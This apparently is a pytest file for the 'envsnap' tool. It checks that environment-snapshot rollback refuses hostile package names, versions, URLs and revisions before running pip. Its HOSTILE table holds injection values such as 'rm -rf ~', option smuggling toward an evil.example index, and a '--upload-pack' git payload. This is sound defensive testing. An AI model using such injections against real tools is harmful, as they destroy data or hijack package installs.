"""A snapshot is untrusted: hostile names, versions, URLs and revisions are refused before anything runs."""

from __future__ import annotations

from collections.abc import Sequence
from pathlib import Path
from typing import Any

import msgspec
import pytest

from envsnap import cli
from envsnap.errors import BadInput, ExitCode
from envsnap.rollback.apply import LineSink, apply
from envsnap.rollback.plan import plan
from envsnap.snapshot import store
from envsnap.snapshot.model import Package, PackageSource, PythonEnv, Snapshot
from tests.fakes.diff_snapshots import make, with_nvidia


def _with(package: Package) -> Snapshot:
    base = make()
    return msgspec.structs.replace(base, packages=(*(base.packages or ()), package))


def _vcs(**fields: Any) -> PackageSource:
    values: dict[str, Any] = {
        "kind": "vcs",
        "url": "https://github.com/Dao-AILab/flash-attention",
        "vcs": "git",
        "commit_id": "bdf733be55f0b323a8cf7cc6745a81c3f43cd7f0",
    }
    return PackageSource(**{**values, **fields})


HOSTILE: dict[str, Snapshot] = {
    "shell in name": _with(Package(name="foo; rm -rf ~", version="1.0")),
    "option as name": _with(Package(name="--index-url=http://evil.example/simple", version="1.0")),
    "editable as name": _with(Package(name="-e /", version="1.0")),
    "newline in name": _with(Package(name="six\n--extra-index-url http://evil.example", version="1.17.0")),
    "option in version": _with(Package(name="six", version="1.17.0 --index-url http://evil.example")),
    "newline in version": _with(Package(name="six", version="1.17.0\n-e /")),
    "not a version": _with(Package(name="six", version="--pre")),
    "option in URL": _with(
        Package(name="x", version="1", source=PackageSource(kind="url", url="-e git+https://h/x"))
    ),
    "space in URL": _with(
        Package(
            name="x", version="1", source=PackageSource(kind="url", url="https://h/x.whl --trusted-host evil")
        )
    ),
    "newline in URL": _with(
        Package(name="x", version="1", source=PackageSource(kind="url", url="https://h/x.whl\nrm -rf /"))
    ),
    "option as revision": _with(
        Package(name="flash-attn", version="2.6.3", source=_vcs(commit_id="--upload-pack=touch /tmp/pwned"))
    ),
    "unknown VCS": _with(Package(name="flash-attn", version="2.6.3", source=_vcs(vcs="git;id"))),
    "newline in driver version": with_nvidia(
        make(), driver_version="535.54.03\n--index-url http://evil.example"
    ),
    "shell in Python version": make(python=PythonEnv(status="ok", version="3.11; rm -rf ~", env_kind="venv")),
}


@pytest.mark.parametrize("case", sorted(HOSTILE))
def test_plan_refuses(case: str) -> None:
    with pytest.raises(BadInput, match="refusing to restore"):
        plan(HOSTILE[case])


@pytest.mark.parametrize("case", sorted(HOSTILE))
def test_apply_refuses_before_reading_or_running_anything(case: str, tmp_path: Path) -> None:
    calls: list[Sequence[str]] = []

    def runner(argv: Sequence[str], on_line: LineSink) -> int:
        calls.append(argv)
        return 0

    def read_packages(python: str) -> tuple[Package, ...]:
        calls.append(["read", python])
        return ()

    python = tmp_path / "python"
    python.write_text("#!/bin/sh\nexit 0\n")
    python.chmod(0o755)
    with pytest.raises(BadInput):
        apply(HOSTILE[case], str(python), runner=runner, read_packages=read_packages)
    assert calls == []


@pytest.mark.parametrize("case", sorted(HOSTILE))
@pytest.mark.parametrize("extra", [["--apply", "--python", "PYTHON"], ["-o", "OUT"], ["--format", "script"]])
def test_cli_exits_2_and_writes_nothing(
    case: str,
    extra: list[str],
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    def never(*args: object, **kwargs: object) -> int:
        raise AssertionError("pip must not run for a refused snapshot")

    monkeypatch.setattr("envsnap.rollback.apply.run_streaming", never)
    monkeypatch.setattr("envsnap.rollback.apply.probe_packages", never)
    monkeypatch.setattr("envsnap.api.collect", never)
    hostile = tmp_path / "hostile.yaml"
    hostile.write_text(store.dumps(HOSTILE[case]))  # a file anyone could hand us
    out = tmp_path / "plan.txt"
    args = [str(out) if a == "OUT" else "/usr/bin/python3" if a == "PYTHON" else a for a in extra]
    assert cli.run(["rollback", str(hostile), *args]) == ExitCode.BAD_INPUT
    captured = capsys.readouterr()
    assert captured.out == ""
    assert captured.err.startswith("envsnap: error: ")
    assert "refusing to restore" in captured.err
    assert len(captured.err.strip().splitlines()) == 1
    assert not out.exists()
